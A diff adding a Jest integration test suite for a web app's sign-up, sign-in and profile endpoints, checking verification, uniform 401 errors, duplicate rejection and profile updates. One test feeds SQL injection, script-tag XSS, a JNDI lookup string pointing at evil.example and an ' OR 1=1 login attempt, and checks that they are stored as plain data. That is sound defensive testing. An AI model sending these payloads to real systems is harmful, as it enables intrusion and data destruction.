@@ -1,0 +1,134 @@
+import { createVerifiedUser, newUserInput } from '../support/factories';
+import { startTestSystem, TestSystem } from '../support/test-system';
+import { bearer, expectErrorShape, login, registerUser, settleMail, verifyOtp, writeSnapshot } from '../api/api-helpers';
+
+jest.setTimeout(30_000);
+
+describe('sign-up, sign-in and profile', () => {
+  let sys: TestSystem;
+  beforeAll(async () => {
+    sys = await startTestSystem();
+  });
+  afterAll(async () => {
+    await sys.close();
+  });
+
+  const register = (body: object) => sys.http.post('/api/auth/register/').send(body);
+
+  it('refuses to sign in an unverified account with a message about verification (403)', async () => {
+    const user = await registerUser(sys);
+    const res = await login(sys, user.email, user.password);
+    expectErrorShape(res, 403);
+    expect(res.body.message).toMatch(/verif/i);
+    expect(res.body.data).toBeUndefined();
+  });
+
+  it('gives a wrong password and an unknown email the identical 401 answer', async () => {
+    const user = await createVerifiedUser(sys);
+    const unverified = await registerUser(sys);
+    const wrongPassword = await login(sys, user.email, 'not-the-password');
+    const unknownEmail = await login(sys, `nobody_${Date.now()}@example.com`, user.password);
+    // An unverified account with a wrong password does not reveal that it exists either.
+    const unverifiedWrong = await login(sys, unverified.email, 'not-the-password');
+
+    expectErrorShape(wrongPassword, 401);
+    expect(wrongPassword.body).toEqual({ message: 'Invalid email or password.', detail: 'Invalid email or password.' });
+    for (const other of [unknownEmail, unverifiedWrong]) {
+      expect({ status: other.status, body: other.body }).toEqual({ status: wrongPassword.status, body: wrongPassword.body });
+    }
+  });
+
+  it('signs in with the email in any case and answers a token and the profile', async () => {
+    const user = await createVerifiedUser(sys);
+    const res = await login(sys, `  ${user.email.toUpperCase()} `, user.password).expect(200);
+    expect(res.body.data.tokens.access).toMatch(/^ey/);
+    expect(res.body.data.user).toEqual({
+      id: user.id,
+      username: user.username,
+      email: user.email,
+      first_name: 'Alex',
+      last_name: 'Morgan',
+      is_admin: false,
+      completed_onboarding: false,
+    });
+  });
+
+  it('refuses a duplicate username or email, also when only the case differs, and writes nothing', async () => {
+    const taken = await registerUser(sys);
+    await settleMail(sys);
+    const fresh = newUserInput();
+    const mailsBefore = sys.smtp.messages.length;
+    const before = await writeSnapshot(sys);
+
+    const cases = [
+      { body: { ...fresh, username: taken.username }, fields: ['username'] },
+      { body: { ...fresh, username: taken.username.toUpperCase() }, fields: ['username'] },
+      { body: { ...fresh, email: taken.email }, fields: ['email'] },
+      { body: { ...fresh, email: taken.email.toUpperCase() }, fields: ['email'] },
+      { body: { ...fresh, username: taken.username.toUpperCase(), email: ` ${taken.email.toUpperCase()} ` }, fields: ['email', 'username'] },
+    ];
+    for (const { body, fields } of cases) {
+      const res = await register({ ...body, password_confirm: body.password });
+      expectErrorShape(res, 400);
+      expect({ sent: body, fields: Object.keys(res.body.errors).sort() }).toEqual({ sent: body, fields });
+      for (const field of fields) expect(res.body.errors[field]).toEqual([`A user with that ${field} already exists.`]);
+    }
+    await settleMail(sys);
+    expect(await writeSnapshot(sys)).toEqual(before);
+    expect(sys.smtp.messages.length).toBe(mailsBefore);
+
+    // The same payload with its own name and email is fine.
+    await register({ ...fresh, password_confirm: fresh.password }).expect(201);
+  });
+
+  it('refuses a sign-up whose password confirmation differs, and writes nothing', async () => {
+    const input = newUserInput();
+    const before = await writeSnapshot(sys);
+    const res = await register({ ...input, password_confirm: `${input.password}x` });
+    expectErrorShape(res, 400);
+    expect(res.body.errors).toEqual({ password_confirm: ['Passwords do not match.'] });
+    expect(await writeSnapshot(sys)).toEqual(before);
+  });
+
+  it('stores injection-looking names and passwords verbatim, as plain data', async () => {
+    const input = newUserInput({
+      first_name: `Robert'); DROP TABLE users;--`,
+      last_name: '<script>alert(1)</script>',
+      password: '${jndi:ldap://evil.example/a} OR 1=1 --',
+    });
+    await register({ ...input, password_confirm: input.password }).expect(201);
+    await verifyOtp(sys, input.email, await sys.smtp.waitForCode(input.email)).expect(200);
+    const res = await login(sys, input.email, input.password).expect(200);
+    expect(res.body.data.user).toMatchObject({ first_name: input.first_name, last_name: input.last_name });
+    expectErrorShape(await login(sys, input.email, `' OR 1=1 --`), 401);
+    const stored: { first_name: string; last_name: string }[] = await sys.db.query(`SELECT first_name, last_name FROM users WHERE email = $1`, [input.email]);
+    expect(stored).toEqual([{ first_name: input.first_name, last_name: input.last_name }]);
+  });
+
+  it('shows the profile and updates first and last name (trimmed), leaving the rest alone', async () => {
+    const user = await createVerifiedUser(sys);
+    const auth = bearer(user.token);
+    const shown = await sys.http.get('/api/auth/profile/').set(auth).expect(200);
+    expect(shown.body.data).toEqual({
+      id: user.id,
+      username: user.username,
+      email: user.email,
+      first_name: 'Alex',
+      last_name: 'Morgan',
+      is_admin: false,
+      completed_onboarding: false,
+    });
+
+    const updated = await sys.http.put('/api/auth/profile/').set(auth).send({ first_name: '  Zoë ', last_name: "O'Neill-Ångström" }).expect(200);
+    expect(updated.body).toEqual({ message: 'Profile updated successfully!', data: { ...shown.body.data, first_name: 'Zoë', last_name: "O'Neill-Ångström" } });
+    const again = await sys.http.get('/api/auth/profile/').set(auth).expect(200);
+    expect(again.body.data).toEqual(updated.body.data);
+
+    // The token and password are untouched by a profile update.
+    await login(sys, user.email, user.password).expect(200);
+
+    const blank = await sys.http.put('/api/auth/profile/').set(auth).send({ first_name: '   ', last_name: 'X' });
+    expectErrorShape(blank, 400);
+    expect(blank.body.errors).toEqual({ first_name: ['First name is required.'] });
+  });
+});
